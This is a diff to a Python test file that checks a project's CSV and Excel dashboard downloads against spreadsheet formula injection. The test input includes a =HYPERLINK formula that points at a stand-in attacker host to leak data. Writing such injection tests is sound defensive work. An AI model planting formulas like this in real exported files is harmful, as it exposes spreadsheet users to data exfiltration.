@@ -11,8 +11,9 @@ import polars as pl
 from hypothesis import given
 from hypothesis import strategies as st
 
-from werkpad.config import PACKAGE_DIR
-from werkpad.dashboard import safe
+from dashboard import downloads
+from werkpad.config import CHECKOUT_DIR
+from werkpad.rendering import safe
 
 HOSTILE = '=HYPERLINK("http://attacker.example/?leak=1","click")'
 NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
@@ -83,7 +84,6 @@ def test_markdown_literal_has_no_unescaped_markdown(text):
 
 
 def test_dashboard_downloads_are_safe():
-    from werkpad.dashboard import downloads
 
     ctx = SimpleNamespace(caption="Provincie: Limburg")
     csv = pl.read_csv(io.BytesIO(downloads.csv_bytes(_frame(), ctx)), comment_prefix="#")
@@ -96,8 +96,9 @@ def test_every_table_file_is_written_through_the_one_helper():
     # the sample generator writes partner-style extracts on purpose; nothing else may
     writers = [
         path
-        for path in (PACKAGE_DIR).rglob("*.py")
-        if path.name != "safe.py" and "sample_data" not in path.parts
+        for package in ("werkpad", "pipelines", "dashboard")
+        for path in (CHECKOUT_DIR / package).rglob("*.py")
+        if path.name != "safe.py"
         for text in [path.read_text()]
         if ".write_csv(" in text or ".write_excel(" in text or "Workbook(" in text
     ]
